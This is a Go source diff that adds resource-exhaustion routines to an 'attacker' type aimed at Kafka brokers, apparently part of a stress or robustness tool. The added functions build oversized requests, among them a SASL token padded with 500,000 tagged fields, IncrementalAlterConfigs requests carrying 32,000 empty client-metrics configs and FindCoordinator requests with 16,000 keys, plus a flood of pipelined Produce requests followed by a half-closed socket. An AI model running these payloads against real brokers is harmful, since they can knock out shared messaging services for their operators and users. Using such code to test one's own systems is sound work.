@@ -2,6 +2,7 @@ package main
 
 import (
 	"bufio"
+	"bytes"
 	"encoding/binary"
 	"fmt"
 	"io"
@@ -24,6 +25,14 @@ const (
 	saslTokenKey  = 36
 	httpPipelined = 16
 	listOffsetsV3 = 12
+
+	findCoordinator   = 10
+	incrementalAlter  = 44
+	clientMetricsType = 16
+	tagsSent          = 500_000
+	coordinatorsAsked = 16_000
+	configsAltered    = 32_000
+	trackedBytes      = 128 << 10
 )
 
 // repeated returns a chunk that is full of copies of a frame.
@@ -213,4 +222,52 @@ func (a *attacker) steadyPush(connection net.Conn, _ int) error {
 		return err
 	}
 	return drain(connection) // the fake broker's filler is no subscription
+}
+
+// tagged appends empty tagged fields to a frame.
+func tagged(frame []byte, count int) []byte {
+	return append(binary.AppendUvarint(frame, uint64(count)), bytes.Repeat([]byte{1, 0}, count)...)
+}
+
+// bareAPIVersions returns an ApiVersions request v3 without its tagged fields.
+func bareAPIVersions() []byte {
+	return appendCompact(appendCompact(requestHeader(18, 3, 1, ""), softwareName), softwareVersion)
+}
+
+func (a *attacker) taggedTokens(connection net.Conn, _ int) error {
+	if _, err := exchange(connection, saslHandshake("PLAIN"), nil); err != nil {
+		return err
+	}
+	return a.pour(connection, sealed(tagged(appendCompact(requestHeader(saslTokenKey, 2, 1, ""), "t"), tagsSent)))
+}
+
+// alterConfigs returns a request that sets empty configs of one client metrics resource.
+func alterConfigs(count int) []byte {
+	frame := appendCompact(append(requestHeader(incrementalAlter, 1, 1, ""), 2, clientMetricsType), "attack")
+	frame = binary.AppendUvarint(frame, uint64(count+1))
+	// Each has an empty name, the operation SET, no value and no tagged fields.
+	return sealed(append(append(frame, bytes.Repeat([]byte{1, 0, 0, 0}, count)...), 0, 0, 0))
+}
+
+// findCoordinators returns a request for keys of five bytes.
+func findCoordinators(count int) []byte {
+	frame := binary.AppendUvarint(append(requestHeader(findCoordinator, 4, 1, ""), 0), uint64(count+1))
+	for i := 0; i < count; i++ {
+		frame = appendCompact(frame, fmt.Sprintf("%05d", i))
+	}
+	return sealed(append(frame, 0))
+}
+
+// smallProduce returns a Produce request v11 without topics. It asks for the smallest valid response.
+func smallProduce() []byte {
+	frame := requestHeader(0, 11, 1, fmt.Sprintf("%s%08d", answerPrefix, 15))
+	return sealed(append(frame, 0, 0xff, 0xff))
+}
+
+func (a *attacker) trackedClosed(connection net.Conn, _ int) error {
+	if _, err := connection.Write(repeated(smallProduce(), trackedBytes)); err != nil {
+		return err
+	}
+	_ = connection.(lasting).Conn.(*net.TCPConn).CloseWrite()
+	return io.EOF
 }
